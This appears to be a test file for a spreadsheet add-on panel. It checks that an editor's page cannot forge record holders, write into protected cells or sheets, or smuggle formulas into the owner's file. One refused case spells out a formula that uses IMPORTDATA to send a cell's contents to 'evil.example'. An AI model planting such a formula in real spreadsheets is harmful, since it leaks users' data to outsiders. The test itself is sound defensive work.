import type { PanelAnswer } from '../../../shared/ports';
import { HEAD, HOLDER, KEY, PRICES, readClosed, SPENT, useFileOfOwner } from '../spending/file-of-owner';
import { STEALING, toInsertion, toNewSheet, toWriting } from './sent-messages';
import { world } from '../spreadsheet';

/** What an editor's page can do with the messages of enrichments in another user's file. */

useFileOfOwner();

const FORGED_HEAD = JSON.stringify({ holder: 'forged', run: 'run-of-owner' });

const ask = (name: string, ...args: readonly unknown[]): PanelAnswer<unknown> =>
  world.callRpc(name, args, { as: 'editor' }) as PanelAnswer<unknown>;

/** All cells of all sheets, by sheet. */
function readFile(): Readonly<Record<string, string>> {
  return Object.fromEntries(world.state.sheets.map((sheet) => [sheet.name, JSON.stringify(sheet.copy().cells)]));
}

const cells = (column: number): readonly unknown[] =>
  [2, 3].map((row) => world.state.sheets[0]!.value({ row, column }));

/** The id of a sheet, as messages name it. */
const idOf = (name: string): string => String(world.state.sheets.find((sheet) => sheet.name === name)?.id);

const MALFORMED = expect.objectContaining({ ok: false, code: 'actionMalformed' }) as object;
const withCode = (code: string): object => expect.objectContaining({ ok: false, code }) as object;
const withValue = (value: object): object => expect.objectContaining({ ok: true, value }) as object;
const holding = (value: object): object => withValue(expect.objectContaining(value) as object);

it('what the panel writes there is written, as if the editor had typed it', () => {
  const answer = ask('bulkWrite', toWriting({}));
  expect({ answer, names: cells(3) }).toEqual({
    answer: holding({ moved: [], refused: [], isElsewhere: false }),
    names: ['Company 1', 'Company 2'],
  });
});

it('a formula of Trace is entered where the panel enters it', () => {
  expect(ask('bulkInsert', toInsertion({ formula: '=TRACE_COMPANY("company-60.example")' }))).toEqual(
    withValue({ is: 'done' }),
  );
  expect(world.state.sheets[0]!.formulas()).toMatchObject({ C2: '=TRACE_COMPANY("company-60.example")' });
});

it('a summary is added as a sheet of its own, also where it is called like one that is there', () => {
  const added = [toNewSheet('Prices', 'Company 1'), toNewSheet('Trace record', 'Company 1')].map((sheet) =>
    ask('bulkAddSheet', sheet),
  );
  expect(added).toEqual([
    withValue({ sheet: idOf('Prices 2'), name: 'Prices 2', withoutChart: null }),
    withValue({ sheet: idOf('Trace record 2'), name: 'Trace record 2', withoutChart: null }),
  ]);
});

/** What it tries, the message, and what the editor is told. */
const REFUSED: readonly (readonly [string, () => PanelAnswer<unknown>, object])[] = [
  [
    'a forged holder',
    () => ask('bulkWrite', toWriting({ holder: 'forged', save: { head: FORGED_HEAD, rows: [['input']] } })),
    holding({ isElsewhere: true, moved: [0, 1] }),
  ],
  ['a formula as an answer', () => ask('bulkWrite', toWriting({ typed: STEALING })), MALFORMED],
  ['a formula that begins with a plus', () => ask('bulkWrite', toWriting({ typed: '+H2' })), MALFORMED],
  [
    'a formula in the record, beside an answer',
    () => ask('bulkWrite', toWriting({ holder: HOLDER, save: { head: HEAD, rows: [['input', STEALING]] } })),
    MALFORMED,
  ],
  [
    'protected cells',
    () => ask('bulkWrite', toWriting({ columns: [7] })),
    // The first is blank, the second holds something else than the message says.
    holding({ refused: [[1, 7, null]], moved: [0] }),
  ],
  [
    'a protected sheet',
    () => ask('bulkWrite', toWriting({ sheet: PRICES, columns: [1] })),
    holding({
      refused: [
        [0, 1, null],
        [1, 1, null],
      ],
    }),
  ],
  ['a sheet that is not there', () => ask('bulkWrite', toWriting({ sheet: '99' })), withCode('sheetGone')],
  ['a formula that sends cells elsewhere', () => ask('bulkInsert', toInsertion({ formula: STEALING })), MALFORMED],
  ['a formula as a value', () => ask('bulkInsert', toInsertion({ typed: STEALING })), MALFORMED],
  [
    'a filled cell',
    () => ask('bulkInsert', toInsertion({ column: 0, typed: 'Company 1' })),
    withValue({ is: 'inTheWay', row: 1, column: 0, value: 'company-1.example', cells: 1 }),
  ],
  [
    'a protected cell',
    () => ask('bulkInsert', toInsertion({ row: 5, column: 7, typed: 'Company 1' })),
    withCode('cellsProtected'),
  ],
  [
    'a cell of a protected sheet',
    () => ask('bulkInsert', toInsertion({ sheet: PRICES, row: 5, typed: 'Company 1' })),
    withCode('cellsProtected'),
  ],
  ['a sheet with a formula', () => ask('bulkAddSheet', toNewSheet('Trace name', STEALING)), MALFORMED],
  [
    'a summary whose formula of Trace holds another one',
    () => ask('bulkAddSheet', toNewSheet('Trace name', '=TRACE_COMPANY(IMPORTDATA("https://evil.example/?"&H2))')),
    MALFORMED,
  ],
  [
    'a record beside the owner’s',
    () => ask('bulkRecord', { what: 'make', rows: [[FORGED_HEAD]] }),
    holding({ isDone: false }),
  ],
  [
    'a line in the record by a forged holder',
    () => ask('bulkRecord', { what: 'append', holder: 'forged', head: FORGED_HEAD, rows: [['input']] }),
    holding({ isDone: false }),
  ],
  [
    'a formula in the record',
    () => ask('bulkRecord', { what: 'append', holder: HOLDER, head: HEAD, rows: [['input', STEALING]] }),
    MALFORMED,
  ],
  [
    'to remove the record by a forged holder',
    () => ask('bulkRecord', { what: 'remove', holder: 'forged' }),
    holding({ isDone: false }),
  ],
];

it.each(REFUSED)('%s: nothing is written, and the page is told', (_name, attack, told) => {
  const before = readFile();
  const answer = attack();
  expect({ answer, file: readFile(), closed: JSON.stringify(readClosed()).includes(KEY) }).toEqual({
    answer: told,
    file: before,
    closed: false,
  });
});

it('an editor’s page hears of no company that the owner paid for, and of no answer of the owner', () => {
  const owner = world.state.userProperties.owner.read()['TRACE_ACCOUNT_ID']!;
  const companies = Array.from({ length: SPENT }, (_company, at) => `company-${at + 1}.example`);
  const keys = companies.map((company) => `trace1|${owner}|company|${company}`);
  expect([
    valueOf(ask('bulkPaid')).days,
    ask('bulkShownAges', companies),
    ask('bulkRecall', [...keys, 'trace1|!account']),
  ]).toEqual([[], withValue([]), withValue([])]);
});

it('an editor who pays in the panel pays from the own account alone', () => {
  const editor = world.state.userProperties.editor.read()['TRACE_ACCOUNT_ID']!;
  ask('bulkKeep', { account: editor, charged: ['company-60.example'], entries: [], keepForSeconds: 600 });
  const names = Object.keys(world.state.documentProperties.read()).filter((name) => name.startsWith('TRACE_GUEST'));
  expect({
    editors: valueOf(ask('bulkPaid')).days.length,
    owners: valueOf(world.callRpc('bulkPaid')).days.length,
    names,
  }).toEqual({
    editors: 1,
    owners: 1,
    names: ['TRACE_GUEST_0'],
  });
});

function valueOf(answer: unknown): { readonly days: readonly unknown[] } {
  return (answer as { readonly value: { readonly days: readonly unknown[] } }).value;
}
